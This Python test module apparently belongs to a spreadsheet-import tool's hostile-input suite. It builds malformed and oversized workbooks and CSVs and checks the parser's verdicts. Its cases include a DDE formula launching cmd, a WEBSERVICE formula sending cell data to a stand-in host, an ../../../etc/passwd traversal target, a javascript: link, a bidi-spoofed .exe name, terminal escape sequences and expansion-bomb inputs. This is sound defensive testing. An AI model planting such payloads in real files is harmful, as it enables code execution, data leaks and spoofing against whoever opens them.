"""Sheets of an impossible shape, size or content; texts that a terminal or another program could obey."""

from collections.abc import Iterator
from xml.sax.saxutils import escape

from poatool.workbooks.limits import Limits
from poatool.workbooks.model import Feature, Trouble
from tests.hostile.case import Case
from tests.workbooks.builder import Book, inline, link, relationships, rows, zipped

_CELL = inline("A1", "9")
_ROW = f'<row r="1">{_CELL}</row>'


def sheets() -> Iterator[Case]:
    yield from _far_and_wide()
    yield from _odd_cells()
    yield from _odd_links()
    yield from _carried()
    yield from _shared_by_many()


def _read(name: str, sheet: str, says: str = "9", **parts: str) -> Case:
    return Case(name, Book(sheet=sheet, extra=parts).data(), None, says)


def _far_and_wide() -> Iterator[Case]:
    few = Limits(cells=1_000, ratio=5_000)
    yield _read("far-corner", rows(_ROW + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'), "1048576")
    yield _read("lying-dimension", '<dimension ref="A1"/>' + rows('<row r="9"><c r="Z9"><v>9</v></c></row>'))
    yield _read("huge-dimension", '<dimension ref="A1:XFD1048576"/>' + rows(_ROW))
    yield _read("whole-sheet-merge", rows(_ROW) + '<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield _read(
        "whole-sheet-link", rows(_ROW) + '<hyperlinks><hyperlink ref="A1:XFD1048576" location="x"/></hyperlinks>'
    )
    yield _read("whole-columns", '<cols><col min="1" max="16384" style="1"/></cols>' + rows(_ROW))
    yield _read("columns-beyond", '<cols><col min="5" max="4294967295" hidden="1"/></cols>' + rows(_ROW))
    yield _read("columns-backward", '<cols><col min="9" max="2" hidden="1"/></cols>' + rows(_ROW))
    array = '<row r="1"><c r="A1"><f t="array" ref="A1:XFD1048576">1</f><v>9</v></c></row>'
    yield _read("whole-sheet-array", rows(array))
    arrays = "".join(f'<c><f t="array" ref="A{n}:XFD{n}">1</f><v>9</v></c>' for n in range(1, 300))
    yield _read("many-wide-arrays", rows(f"<row>{arrays}</row>"))
    yield _read("phantom-rows", rows(_ROW + '<row spans="1:1" ht="15"/>' * 20_000))
    yield _read(
        "styled-phantom-cells", rows("<row>" + '<c s="1"/>' * 16_000 + "</row>" + '<row r="2"><c><v>9</v></c></row>')
    )
    yield Case("many-cells", Book(sheet=rows("<row><c><v>1</v></c></row>" * 1_001)).data(), *_TOO_MANY, limits=few)
    yield Case("many-strings", Book(strings="<si/>" * 1_001).data(), *_TOO_MANY_TEXTS, limits=few)
    merges = '<mergeCells><mergeCell ref="A1:B1"/></mergeCells>' * 1_001
    yield Case("many-merges", Book(sheet=merges).data(), *_TOO_MANY, limits=few)
    wide = rows("<row>" + "<c><v>1</v></c>" * 16_385 + "</row>")
    yield Case("wider-than-a-sheet", Book(sheet=wide).data(), Trouble.TOO_LARGE, "more cells than a row can have")
    beyond = rows('<row r="1048576"/><row><c><v>1</v></c></row>')
    yield Case("longer-than-a-sheet", Book(sheet=beyond).data(), Trouble.TOO_LARGE, "more rows than a sheet can have")
    yield _read("two-lists-of-rows", rows(_ROW) + rows('<row r="2"><c r="A2"><v>10</v></c></row>'), "10")


_TOO_MANY = (Trouble.TOO_LARGE, "too many cells; the limit is 1,000")
_TOO_MANY_TEXTS = (Trouble.TOO_LARGE, "texts or more; the limit is 1,000")


def _odd_cells() -> Iterator[Case]:
    for name, xml, says in (
        ("row-zero", '<row r="0"><c><v>9</v></c></row>', "9"),
        ("row-beyond", '<row r="99999999999999999999"><c><v>9</v></c></row>', "9"),
        ("column-beyond", '<row><c r="ZZZZZZ1"><v>9</v></c></row>', "which no sheet has"),
        ("address-reversed", '<row><c r="1A"><v>9</v></c></row>', "which no sheet has"),
        ("address-arabic", '<row><c r="A٣"><v>9</v></c></row>', "which no sheet has"),
        ("type-unknown", '<row><c t="zzz"><v>9</v></c></row>', "9"),
        ("text-index-huge", '<row><c t="s"><v>99999999999999999999</v></c></row>', "does not have"),
        ("number-of-many-digits", f"<row><c><v>{'9' * 5_000}</v></c></row>", "999"),
        ("number-hex", "<row><c><v>0x1F</v></c></row>", "is not one"),
        ("style-huge", '<row><c s="99999999999999999999"><v>9</v></c></row>', "9"),
        ("error-unknown", '<row><c t="e"><v>#NEW_ERROR!</v></c></row>', "#NEW_ERROR!"),
        ("boolean-odd", '<row><c t="b"><v>maybe</v></c></row>', "False"),
        ("date-out-of-range", '<row><c t="d"><v>2022-13-45T99:99:99Z</v></c></row>', "is not one"),
        ("formula-web", '<row><c t="str"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>9</v></c></row>', "9"),
        ("formula-dde", "<row><c t='str'><f>cmd|'/c calc'!A0</f><v>9</v></c></row>", "9"),
        ("text-of-32767", f"<row>{inline('A1', 'x' * 32_767)}</row>", "x" * 100),
        ("text-of-a-million", f"<row>{inline('A1', 'ā' * 1_000_000)}</row>", "ā" * 100),
        ("runs-many", f"<row><c t='inlineStr'><is>{'<r><t>x</t></r>' * 20_000}</is></c></row>", "xxxx"),
    ):
        yield Case(name, Book(sheet=rows(xml)).data(), None, says, limits=Limits(ratio=5_000))


def _shared_by_many() -> Iterator[Case]:
    """Small files in which many cells share something long, which would be copied for each."""
    long, many = "x" * 100_000, range(1, 201)
    limits = Limits(ratio=5_000, characters=10_000_000)
    too_long = (Trouble.TOO_LARGE, "too many characters; the limit is 10,000,000")
    text = Book(sheet=rows('<row><c t="s"><v>0</v></c></row>' * 200), strings=f"<si><t>{long}</t></si>")
    yield Case("shared-text", text.data(), *too_long, limits=limits)
    links = "".join(f'<hyperlink ref="A{n}" r:id="l1" location="{n}"/>' for n in many)
    address = link("l1", "hyperlink", f"https://example.govt.nz/{long}", external=True)
    linked = Book(sheet=rows(_ROW) + f"<hyperlinks>{links}</hyperlinks>", links=address)
    yield Case("shared-link", linked.data(), *too_long, limits=limits)
    runs = Book(strings="<si>" + f"<r><t>{long}</t></r>" * 20 + "</si>").data()
    few = Limits(ratio=5_000, characters=250_000)
    yield Case("text-of-many-runs", runs, Trouble.TOO_LARGE, "too many characters in one place", limits=few)
    many_parts = "<r><t>x</t></r>" * 1_001
    shared, inline = (
        Book(strings=f"<si>{many_parts}</si>"),
        rows(f'<row><c t="inlineStr"><is>{many_parts}</is></c></row>'),
    )
    few = Limits(cells=1_000)
    yield Case("texts-of-many-parts", shared.data(), Trouble.TOO_LARGE, "1,002 texts or more", limits=few)
    yield Case("cell-of-many-parts", Book(sheet=inline).data(), Trouble.TOO_LARGE, "too many cells", limits=few)
    formula = f'<row><c><f t="shared" ref="A1:A200" si="0">HYPERLINK("{long}")</f><v>1</v></c></row>'
    formulas = Book(sheet=rows(formula + '<row><c><f t="shared" si="0"/><v>1</v></c></row>' * 199))
    yield Case("shared-formula", formulas.data(), *too_long, limits=limits)
    comments = (
        f'<comments><commentList><comment ref="A1"><text><t>{long * 101}</t></text></comment></commentList></comments>'
    )
    noted = Book(sheet=rows(_ROW), links=link("c1", "comments", "../c.xml"), extra={"xl/c.xml": comments})
    yield Case("comment-long", noted.data(), *too_long, limits=limits)
    parts = Book(sheet=rows(_ROW)).parts()
    parts["xl/workbook.xml"] = str(parts["xl/workbook.xml"]).replace("Updates", long)
    yield Case(
        "sheet-name-long", zipped(parts), Trouble.UNSAFE, "the name of a sheet has 100,000 characters", limits=limits
    )


def _odd_links() -> Iterator[Case]:
    for number, target in enumerate(
        ("", "..", "/", "../../../etc/passwd", "sheet%201.xml", "http://x/", "\x85", "a" * 9_999)
    ):
        parts = Book().parts()
        parts["xl/_rels/workbook.xml.rels"] = relationships(link("rId1", "worksheet", target))
        yield Case(f"odd-target-{number}", zipped(parts), Trouble.DAMAGED, "none of the sheets")
    parts = Book(sheet=rows(_ROW)).parts()
    parts["xl/_rels/workbook.xml.rels"] = relationships(link("rId1", "worksheet", "workbook.xml"))
    again = dict(parts)
    again["xl/workbook.xml"] = str(parts["xl/workbook.xml"]).replace("</sheets>", '<sheet r:id="rId1"/></sheets>')
    yield Case("sheet-twice", zipped(again), Trouble.UNSAFE, "same part as another sheet")
    drawings = "".join(link(f"d{n}", "drawing", "../drawings/d.xml") for n in range(40))
    heavy = Book(sheet=rows(_ROW), links=drawings, extra={"xl/drawings/d.xml": "<d>" + "x" * 200_000 + "</d>"})
    over = "over and over"
    yield Case("parts-over-and-over", heavy.data(), Trouble.UNSAFE, over, limits=Limits(unpacked_mib=1))
    yield Case("sheet-is-the-workbook", zipped(parts), None, "")
    parts["_rels/.rels"] = relationships(link("rId1", "officeDocument", "xl/worksheets/sheet1.xml"))
    yield Case("workbook-is-a-sheet", zipped(parts), Trouble.NOT_A_WORKBOOK, "not a workbook")
    yield Case("javascript-link", _linked("javascript:alert(1)"), None, "javascript:alert(1)")
    yield Case("file-link", _linked("file://server/share"), None, "file://server/share")


def _linked(target: str) -> bytes:
    hyperlinks = '<hyperlinks><hyperlink ref="A1" r:id="l1"/></hyperlinks>'
    return Book(sheet=rows(_ROW) + hyperlinks, links=link("l1", "hyperlink", target, external=True)).data()


def _carried() -> Iterator[Case]:
    """What is in the workbook besides its cells is named, and left alone."""
    for name, kind, text, feature in (
        ("macros", "vbaProject", "\x00", Feature.MACROS),
        ("connection", "connections", "<connections/>", Feature.CONNECTIONS),
        ("external-link", "externalLink", "<externalLink/>", Feature.EXTERNAL_LINKS),
        ("dde", "externalLink", "<externalLink><ddeLink ddeService='cmd'/></externalLink>", Feature.DDE),
        ("macro-sheet", "xlMacrosheet", "<macrosheet/>", Feature.MACRO_SHEETS),
    ):
        book = Book(sheet=rows(_ROW), workbook_links=link("x", kind, "carried.xml"), extra={"xl/carried.xml": text})
        yield Case(f"carries-{name}", book.data(), None, feature.value)
    book = Book(sheet=rows(_ROW), links=link("x", "oleObject", "../embeddings/evil.exe"))
    yield Case("carries-embedded", book.data(), None, Feature.EMBEDDED.value)
    brackets = "[ab" * 200_000
    for name, styles in (
        ("empty-fill", "<fills><fill/></fills>"),
        (
            "bad-colour",
            "<fills><fill><patternFill patternType='solid'><fgColor rgb='zz'/></patternFill></fill></fills>",
        ),
        (
            "unknown",
            "<numFmts><numFmt numFmtId='x' formatCode='&quot;'/></numFmts><cellXfs><xf numFmtId='x'/></cellXfs>",
        ),
        (
            "brackets-without-end",
            f"<numFmts><numFmt numFmtId='9' formatCode='{brackets}'/></numFmts><cellXfs><xf numFmtId='9'/></cellXfs>",
        ),
        ("format-code", "<numFmts><numFmt numFmtId='0' formatCode='[$-F800]system(&quot;x&quot;)'/></numFmts>"),
    ):
        yield Case(f"styles-{name}", Book(sheet=rows(_ROW), styles=styles).data(), None, "9")


_KEPT = {
    "rich-markup": "[red]x[/] [/foo] [link=http://x]",
    "formula": '=HYPERLINK("http://x","y")',
    "bidi": "abc\u202exslx.exe",
    "zero-width": "N\u200b1",
    "private-use": "\ue000",
    "combining": "e" + "\u0301\u0301" * 500,
}
_CLEANED = {
    "escape": ("_x001B_[2J", "U+001B"),
    "null": ["a_x0000_b", "U+0000"],
    "c1": ("a\x9b31mb", "U+009B"),
    "not-a-character": ("a_xFFFE_b", "U+FFFE"),
}


def texts() -> Iterator[Case]:
    for name, text in _KEPT.items():
        wanted = "\u00e9" + "\u0301" * 10 if name == "combining" else text
        yield Case(f"text-{name}", Book(sheet=rows(f"<row>{inline('A1', escape(text))}</row>")).data(), None, wanted)
    for name, (written, removed) in _CLEANED.items():
        data = Book(sheet=rows(f"<row>{inline('A1', written)}</row>")).data()
        yield Case(f"cleaned-{name}", data, None, f"Control characters ({removed}) were taken out")
    yield Case("half-character", Book(sheet=rows(f"<row>{inline('A1', 'a_xD800_b')}</row>")).data(), None, "a\ufffdb")
    yield from _delimited()


def _delimited() -> Iterator[Case]:
    def csv(name: str, data: bytes, trouble: Trouble | None, says: str) -> Case:
        return Case(f"csv-{name}", data, trouble, says, "agency.csv")

    yield csv("nul", b"Action,Progress\n9,a\x00b\n", None, "U+0000")
    yield csv("escape", b"Action,Progress\n9,\x1b]0;x\x07\n" + b"10,more text to read\n" * 9, None, "U+001B")
    yield csv("carriage-returns", b"Action,Progress\r9,x\r", None, "x")
    yield csv("long-field", b"Action,Progress\n9," + b"x" * 300_000 + b"\n", None, "x" * 100)
    yield csv("many-columns", b"," * 20_000 + b"x\n", Trouble.TOO_LARGE, "more cells than a row")
    yield csv("broken-utf8", b"\xef\xbb\xbfa,b\n\xff,c\n", Trouble.ENCODING, "UTF-8")
    yield csv("undefined-byte", b"Action,Progress\n9,a\x81\xe9\n", None, "Windows-1252")
    yield csv("binary", bytes(range(256)) * 20, Trouble.NOT_A_WORKBOOK, "nor text")
    yield csv("only-breaks", b"\n\n\n", None, "")
    yield csv("only-a-bom", b"\xef\xbb\xbf", None, "")
    yield csv("one-word", b"hello", None, "hello")
